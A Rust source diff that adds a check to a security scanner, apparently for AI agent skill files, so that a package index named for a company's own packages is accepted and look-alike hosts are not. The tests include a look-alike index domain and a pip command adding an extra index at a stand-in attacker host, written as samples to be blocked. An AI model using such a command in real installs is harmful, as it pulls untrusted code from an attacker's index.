@@ -21,7 +21,7 @@ use std::sync::LazyLock;
 use regex::Regex;
 
 use crate::lines::Lines;
-use crate::urlhost::{host_of, reroutes};
+use crate::urlhost::{host_of, registrable, reroutes};
 
 static URL: LazyLock<Regex> =
     LazyLock::new(|| Regex::new(r"(?i)\bhttps?://(\S+)").expect("URL regex"));
@@ -31,6 +31,47 @@ static DOCUMENTED: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(r"(?i)\b(?:internal|private|company(?:'s)?|corporate|intranet|in-house|(?:our|its|their)\s+own)\s+(?:[\w-]+\s+){0,2}?(?:index|registry|mirror|artifactory|nexus|package\s+(?:index|server|feed))\b")
         .expect("documented regex")
 });
+
+/// The fewest packages of its own a company's skill names (`acme-core`,
+/// `acme-auth`) for its name to stand for the company.
+const FEWEST_OWN_PACKAGES: usize = 2;
+
+/// code88: whether every URL on `line` is on a site named as the company
+/// is (`pypi.acme.example`, blind87c's `internal-sdk-release` twin),
+/// where `skill_md` calls the index the company's own and names at least
+/// `FEWEST_OWN_PACKAGES` packages of that company (`acme-core`,
+/// `acme-auth`). A look-alike named otherwise (`acme-internal.example`
+/// beside packages `acme-…`), or a skill naming no such packages, stays
+/// blocked.
+pub fn named_for_company(line: &str, skill_md: &str) -> bool {
+    !reroutes(line)
+        && every_host(line, |host| {
+            let site = registrable(host);
+            let company = site.split('.').next().unwrap_or_default();
+            company.len() >= 3 && own_packages(skill_md, company) >= FEWEST_OWN_PACKAGES
+        })
+        && DOCUMENTED.is_match(skill_md)
+}
+
+/// How many distinct names `company-…` (`acme-core`) `text` holds as
+/// whole words.
+fn own_packages(text: &str, company: &str) -> usize {
+    let word = |c: char| c.is_ascii_alphanumeric() || c == '_';
+    let lower = text.to_ascii_lowercase();
+    let prefix = format!("{company}-");
+    let mut names: Vec<&str> = lower
+        .match_indices(&prefix)
+        .filter(|(at, _)| !lower[..*at].ends_with(word) && !lower[..*at].ends_with('-'))
+        .map(|(at, _)| {
+            let rest = &lower[at + prefix.len()..];
+            &rest[..rest.find(|c: char| !word(c)).unwrap_or(rest.len())]
+        })
+        .filter(|suffix| !suffix.is_empty())
+        .collect();
+    names.sort_unstable();
+    names.dedup();
+    names.len()
+}
 
 /// Labels and top-level domains a host names itself internal by.
 const INTERNAL_LABELS: &[&str] = &["internal", "intranet", "corp", "intra", "lan", "local"];
@@ -43,7 +84,7 @@ pub fn documented_internal(lines: &Lines, line: usize) -> bool {
 
 /// Whether `text` holds a URL and every URL's host, lower-cased, is one
 /// `kind` takes.
-fn every_host(text: &str, kind: fn(&str) -> bool) -> bool {
+fn every_host(text: &str, kind: impl Fn(&str) -> bool) -> bool {
     let mut hosts = URL
         .captures_iter(text)
         .map(|url| host_of(url.get(1).map_or("", |m| m.as_str())).to_ascii_lowercase())
@@ -138,6 +179,32 @@ mod tests {
         ] {
             assert!(!on_this_network(&Lines::new(kept), 0), "{kept}");
         }
+    }
+
+    #[test]
+    fn a_site_named_as_the_companys_packages_is_its_index() {
+        let skill =
+            "The packages `acme-core` and `acme-auth` are published to the company index only.\n";
+        let line = "url = \"https://pypi.acme.example/simple\"";
+        assert!(named_for_company(line, skill));
+        // A look-alike site, one package only, no word that the index is
+        // the company's, a second host on the line.
+        assert!(!named_for_company(
+            "url = \"https://pypi.acme-internal.example/simple\"",
+            skill
+        ));
+        assert!(!named_for_company(
+            line,
+            "The package `acme-core` is published to the company index only.\n"
+        ));
+        assert!(!named_for_company(
+            line,
+            "The packages `acme-core` and `acme-auth` are on PyPI.\n"
+        ));
+        assert!(!named_for_company(
+            "pip install -i https://pypi.acme.example/simple --extra-index-url https://evil.example/simple x",
+            skill
+        ));
     }
 
     #[test]
